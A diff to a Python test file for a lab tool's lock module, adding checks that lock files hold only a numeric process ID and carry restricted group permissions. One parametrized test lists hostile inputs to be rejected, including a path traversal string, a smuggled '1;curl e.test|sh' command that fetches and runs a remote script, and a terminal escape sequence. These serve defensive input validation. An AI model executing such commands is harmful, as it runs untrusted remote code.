@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import errno
 import os
 import re
 import threading
@@ -75,7 +76,7 @@ def test_whoever_waits_is_told_once_and_gets_it(path: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    ("cmdline", "told"),
+    ("cmdline", "text"),
     [
         (
             b"/v/python\0/v/invoke\0--search-root\0/w\0lab.up\0contrail-3node\0",
@@ -87,14 +88,53 @@ def test_whoever_waits_is_told_once_and_gets_it(path: Path) -> None:
     ],
 )
 def test_who_holds_a_lock_is_told_by_what_was_typed(
-    monkeypatch: pytest.MonkeyPatch, cmdline: bytes, told: str
+    monkeypatch: pytest.MonkeyPatch, cmdline: bytes, text: str
 ) -> None:
     monkeypatch.setattr(Path, "read_bytes", lambda _self: cmdline)
-    assert locks._doing("123") == told
+    assert locks._command_of("123") == text
 
 
-def test_who_holds_a_lock_and_is_gone_has_no_words() -> None:
-    assert locks._doing("unknown") == ""
+def test_a_holder_that_has_ended_has_no_command() -> None:
+    assert locks._command_of("9999999999") == ""
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "no number",
+        "..",
+        "../../tmp/x",
+        "1;curl e.test|sh",
+        "1\x1b]0;T\x07",
+        "12345678901",
+        "¹²",
+    ],
+)
+def test_only_a_number_is_taken_for_the_holders_process(path: Path, text: str) -> None:
+    """Members of the group can write to the file: /proc/../../tmp/x/cmdline might be a FIFO."""
+    assert locks._command_of(text) == ""
+    with locks.held(path, "it"):
+        path.write_text(text)
+        with pytest.raises(AlreadyRunning) as caught, locks.held(path, "it"):
+            pass
+    assert caught.value.message == "it is in use by process unknown"
+    assert caught.value.hint == "wait for it, or look at it: lslocks | grep lab.trio.lock"
+
+
+def test_a_full_disk_does_not_keep_anybody_from_a_lock(
+    path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Destroying a lab frees the disk, and needs the lab's lock."""
+
+    def refuse(*_: object) -> int:
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(os, "pwrite", refuse)
+    with locks.held(path, "it"):
+        assert path.read_text() == ""
+        with pytest.raises(AlreadyRunning, match="process unknown"), locks.held(path, "it"):
+            pass
 
 
 def test_waiting_ends_when_its_time_is_up(path: Path) -> None:
@@ -129,13 +169,29 @@ def test_of_many_only_one_holds_it_at_a_time(path: Path) -> None:
     assert most == [1] * 6
 
 
-def test_another_user_may_lock_the_same_file(path: Path) -> None:
-    before = os.umask(0o077)
+@pytest.mark.parametrize(
+    ("directory_mode", "mode"), [(0o2775, 0o660), (0o755, 0o600), (0o775, 0o600)]
+)
+@pytest.mark.parametrize("umask", [0o077, 0o000])
+def test_the_group_of_a_shared_directory_and_nobody_else_may_lock_its_files(
+    path: Path, directory_mode: int, mode: int, umask: int
+) -> None:
+    path.parent.mkdir()
+    path.parent.chmod(directory_mode)
+    before = os.umask(umask)
     try:
         with locks.held(path, "it"):
-            assert path.stat().st_mode & 0o777 == 0o666
+            assert path.stat().st_mode & 0o777 == mode
     finally:
         os.umask(before)
+
+
+def test_a_lock_file_that_was_open_to_all_is_closed(path: Path) -> None:
+    path.parent.mkdir()
+    path.touch()
+    path.chmod(0o666)
+    with locks.held(path, "it"):
+        assert path.stat().st_mode & 0o777 == 0o600
 
 
 def test_a_lock_of_another_user_is_taken_as_it_is(
